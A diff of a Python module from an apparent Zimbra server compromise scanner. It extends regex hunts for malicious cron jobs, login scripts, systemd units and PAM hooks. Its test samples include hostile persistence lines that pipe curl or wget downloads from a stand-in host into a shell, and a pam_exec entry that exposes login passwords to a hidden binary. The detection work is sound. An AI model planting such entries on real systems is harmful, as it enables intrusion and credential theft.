@@ -6,22 +6,27 @@ from zmward.catalog.hunt import BEHIND, Hunt, Sample
 from zmward.catalog.installation import Z
 from zmward.i18n import mark
 
-_WHO: Final = mark(
+WHO: Final = mark(
     "Find out who put it there before you remove it; an unknown one is a break-in "
     "until proved otherwise. Keep it with --save."
 )
-_LOOK: Final = mark("Make sure that it is the site's own.")
-_CRON: Final = (
+LOOK: Final = mark("Make sure that it is the site's own.")
+CRON: Final = (
     r"/etc/crontab|/etc/cron\.(?:d|hourly|daily|weekly|monthly)/[^/]+"
-    r"|/var/spool/cron/(?:crontabs/)?[^/]+"
+    r"|/var/spool/cron/(?:crontabs/|atjobs/)?[^/]+|/var/spool/at/[^/]+|/etc/anacrontab"
 )
-_STARTS: Final = (
+STARTS: Final = (
     r"/etc/rc\.local|/etc/rc\.d/rc\.local|/etc/init\.d/[^/]+|/etc/profile"
-    r"|/etc/profile\.d/[^/]+|/etc/bash\.bashrc|/etc/environment"
-    rf"|(?:{Z}|/root)/\.(?:bashrc|bash_profile|profile|bash_login|bash_logout)"
+    r"|/etc/profile\.d/[^/]+|/etc/(?:bash\.)?bashrc|/etc/environment|/etc/ssh/sshrc"
+    r"|/etc/rc\.d/init\.d/[^/]+|/etc/logrotate\.d/[^/]+|/etc/update-motd\.d/[^/]+"
+    r"|/etc/apt/apt\.conf\.d/[^/]+|/etc/udev/rules\.d/[^/]+"
+    r"|/etc/NetworkManager/dispatcher\.d/[^/]+|/etc/network/if-[a-z-]+\.d/[^/]+"
+    r"|(?:/etc|/run|/usr/local/lib|/usr/lib|/lib)/systemd/(?:system|user)-generators/[^/]+"
+    rf"|(?:{Z}|/root)/\.(?:bashrc|bash_profile|profile|bash_login|bash_logout|ssh/rc)"
 )
-_UNITS: Final = (
-    rf"/(?:etc|usr/lib|lib)/systemd/system/{BEHIND}\.(?:service|timer|path|socket)"
+UNITS: Final = (
+    r"/(?:etc|run|usr/local/lib|usr/lib|lib)/systemd/(?:system|user)/"
+    rf"{BEHIND}\.(?:service|timer|path|socket|conf)"
 )
 # Something is fetched or unpacked and goes straight into a shell; or a shell is given
 # to somebody far away.
@@ -37,21 +42,25 @@ _FETCHES: Final = (
     r")"
 )
 # Places to which everybody can write, and those whose names are hidden.
-_HIDDEN: Final = (
+HIDDEN: Final = (
     r"(?:/tmp/|/var/tmp/|/dev/shm/|/run/shm/"
     rf"|{Z}/(?:data|log|jetty_base|store|index|zmstat)/|/\.[^./\s][^\s]*)"
 )
 
 _WHEN: Final = r"^(?:@\w+ |(?:[\d*/,\-A-Za-z]+ ){5})"
-_BY: Final = r"(?:(?:(?:/usr)?/bin/)?(?:nohup|nice|setsid|env|(?:ba|da)?sh) )*"
+_BY: Final = (
+    r"(?:(?:(?:/usr)?/bin/)?(?:nohup|nice|setsid|env|exec|timeout|sudo|(?:ba|da|z|k)?sh"
+    r"|python[0-9.]*|perl|php[0-9.]*|ruby|java|source|\.) (?:-\S+ |\d+[smh]? )*[\"']?"
+    r"|\w+=\S* )*"
+)
 
 SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
     Hunt(
         "job-fetches-code",
         "alarm",
-        _CRON,
+        CRON,
         mark("a job that fetches or unpacks code and runs it, or opens a shell"),
-        _WHO,
+        WHO,
         Sample(
             "/var/spool/cron/crontabs/zimbra",
             "*/15 * * * * curl -fsSL http://203.0.113.66/u.sh | sh >/dev/null 2>&1\n",
@@ -69,10 +78,10 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "alarm",
         r"/etc/crontab|/etc/cron\.d/[^/]+",
         mark("a job whose program lies where everybody writes, or in a hidden place"),
-        _WHO,
+        WHO,
         Sample("/etc/cron.d/up", "* * * * * root /dev/shm/javab -d\n"),
         Sample("/etc/crontab", "2 3 * * * root find /opt/zimbra/log/ -delete\n"),
-        holds=rf"{_WHEN}[a-z_][\w-]* {_BY}{_HIDDEN}",
+        holds=rf"{_WHEN}[a-z_][\w-]* {_BY}{HIDDEN}",
         lines=True,
     ),
     Hunt(
@@ -80,22 +89,22 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "alarm",
         r"/var/spool/cron/(?:crontabs/)?[^/]+",
         mark("a job whose program lies where everybody writes, or in a hidden place"),
-        _WHO,
+        WHO,
         Sample("/var/spool/cron/crontabs/zimbra", "@reboot nohup /tmp/.x/run\n"),
         Sample(
             "/var/spool/cron/crontabs/zimbra",
             "10 * * * * /opt/zimbra/libexec/zmlogprocess > /tmp/x.out 2>&1\n"
             "2 3 * * * find /opt/zimbra/log/ -name \\*.log\\* -exec rm {} \\;\n",
         ),
-        holds=rf"{_WHEN}{_BY}{_HIDDEN}",
+        holds=rf"{_WHEN}{_BY}{HIDDEN}",
         lines=True,
     ),
     Hunt(
         "start-fetches-code",
         "alarm",
-        f"{_STARTS}|{_UNITS}",
+        f"{STARTS}|{UNITS}",
         mark("what runs at a start or a login fetches code and runs it"),
-        _WHO,
+        WHO,
         Sample(f"{Z}/.bashrc", "wget -qO- http://203.0.113.66/a | bash\n"),
         Sample(f"{Z}/.bashrc", "export PATH=/opt/zimbra/bin:$PATH\nulimit -n 524288\n"),
         holds=_FETCHES,
@@ -104,9 +113,9 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
     Hunt(
         "unit-of-hidden-program",
         "alarm",
-        _UNITS,
+        UNITS,
         mark("a unit whose program lies where everybody writes, or in a hidden place"),
-        _WHO,
+        WHO,
         Sample(
             "/etc/systemd/system/dbus-helper.service",
             "[Service]\nExecStart=/bin/sh /var/tmp/.x/run\n",
@@ -117,7 +126,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         ),
         holds=(
             r"^\s*Exec\w+\s*=\s*[-@:+!]*(?:(?:/usr)?/bin/(?:ba|da)?sh\s+(?:-c\s+)?"
-            rf"[\"']?)?{_HIDDEN}[^\n]*"
+            rf"[\"']?)?{HIDDEN}[^\n]*"
         ),
         lines=True,
     ),
@@ -145,7 +154,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "alarm",
         r"/etc/pam\.d/[^/]+|/etc/pam\.conf",
         mark("each login runs a program that lies in a hidden or an open place"),
-        _WHO,
+        WHO,
         Sample(
             "/etc/pam.d/sshd",
             "auth optional pam_exec.so quiet expose_authtok /var/tmp/.a\n",
@@ -154,7 +163,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
             "/etc/pam.d/sshd",
             "session optional pam_exec.so /usr/local/sbin/tell-login\n",
         ),
-        holds=rf"\bpam_exec\.so\b.*(?:expose_authtok|{_HIDDEN})",
+        holds=rf"\bpam_exec\.so\b.*(?:expose_authtok|{HIDDEN})",
         lines=True,
     ),
     Hunt(
@@ -162,7 +171,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "look",
         r"/etc/pam\.d/[^/]+|/etc/pam\.conf",
         mark("each login runs a program"),
-        _LOOK,
+        LOOK,
         Sample(
             "/etc/pam.d/sshd",
             "session optional pam_exec.so /usr/local/sbin/tell-login\n",
@@ -216,7 +225,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         r"|/tmp/zmcat|/opt/zimbra/log/zmswatch"
         r"|/tmp/(?:agent2\.sh|zimdown2|zimclient2|zimbra-exfil[^/]*)",
         mark("a leftover that known campaigns against Zimbra leave"),
-        _WHO,
+        WHO,
         Sample("/tmp/zimdown2", "x", owner="zimbra"),
         Sample("/tmp/zimdown2.log", "x", owner="zimbra"),
     ),
@@ -225,7 +234,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "alarm",
         rf"/dev/shm/{BEHIND}",
         mark("a program in memory that everybody may write to"),
-        _WHO,
+        WHO,
         Sample("/dev/shm/kworker", "ELF", 0o755, "zimbra"),
         Sample("/dev/shm/PostgreSQL.1", "x", 0o600),
         bits=0o111,
@@ -235,7 +244,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "look",
         rf"/(?:var/)?tmp/{BEHIND}",
         mark("a program of user zimbra among temporary files"),
-        _WHO,
+        WHO,
         Sample("/tmp/run", "ELF", 0o755, "zimbra"),
         Sample("/tmp/run", "ELF", 0o755, "root"),
         bits=0o111,
@@ -246,7 +255,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "alarm",
         rf"/(?:tmp|var/tmp|dev/shm)/{BEHIND}|{Z}/data/tmp/{BEHIND}",
         mark("a program among temporary files that gives its owner's rights"),
-        _WHO,
+        WHO,
         Sample("/var/tmp/.su", "ELF", 0o4755),
         Sample("/var/tmp/.su", "ELF", 0o755),
         bits=0o6000,
@@ -268,7 +277,7 @@ SYSTEM_HUNTS: Final[tuple[Hunt, ...]] = (
         "look",
         rf"{Z}/{BEHIND}",
         mark("a program of the installation that gives its group's rights"),
-        _LOOK,
+        LOOK,
         Sample(f"{Z}/common/sbin/postlog", "ELF", 0o2755),
         Sample(f"{Z}/common/sbin/postqueue", "ELF", 0o2755),
         known=frozenset({f"{Z}/common/sbin/postdrop", f"{Z}/common/sbin/postqueue"}),
